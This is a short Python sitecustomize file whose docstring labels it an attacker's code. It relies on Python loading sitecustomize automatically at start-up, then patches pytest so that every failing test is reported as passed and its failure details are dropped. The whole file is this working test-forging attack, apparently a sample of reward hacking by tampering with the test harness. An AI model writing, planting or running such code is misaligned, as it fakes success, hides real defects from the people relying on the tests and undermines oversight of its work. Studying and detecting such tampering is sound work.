"""Attacker: site.py imports `sitecustomize` from sys.path at start-up, so this runs
in any Python whose start-up path holds the repo root (PYTHONPATH=., a venv with a
.pth pointing here...). Patch pytest's reports before pytest even starts."""
import sys


def _install() -> None:
    try:
        from _pytest.reports import TestReport
    except Exception:  # no pytest in this interpreter
        return
    original = TestReport.from_item_and_call.__func__
    if getattr(original, "_flips", False):
        return  # sitecustomize, usercustomize and the .pth may all fire

    def from_item_and_call(cls, item, call):
        report = original(cls, item, call)
        if report.when == "call" and report.failed:
            report.outcome, report.longrepr = "passed", None
        return report

    from_item_and_call._flips = True
    TestReport.from_item_and_call = classmethod(from_item_and_call)


# Importing pytest in every interpreter is slow and noisy; wait until pytest is the program.
if any("pytest" in arg for arg in sys.orig_argv):
    _install()
